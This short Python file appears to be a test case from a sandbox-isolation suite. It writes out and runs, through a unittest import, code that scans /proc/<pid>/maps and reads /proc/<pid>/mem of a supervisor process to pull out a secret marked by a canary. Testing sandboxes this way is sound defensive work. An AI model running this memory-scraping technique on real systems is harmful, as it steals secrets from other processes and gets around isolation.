# class: proc
# technique: read the supervisor secret through /proc/<pid>/mem
# success: output_has @@MEMCANARY@@
import sys, unittest
source = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfor pid in ('@@HOSTPID@@', '@@VPID@@'):\n    for line in open('/proc/%s/maps' % pid):\n        a, b = (int(x, 16) for x in line.split()[0].split('-'))\n        with open('/proc/%s/mem' % pid, 'rb') as f:\n            f.seek(a); data = f.read(min(b - a, 1 << 20))\n            if b'MEM-' in data: print(data[data.index(b'MEM-'):][:30])\n"
open('native_part.py', 'w').write(source)
sys.path.insert(0, '')
unittest.defaultTestLoader.loadTestsFromName('native_part')
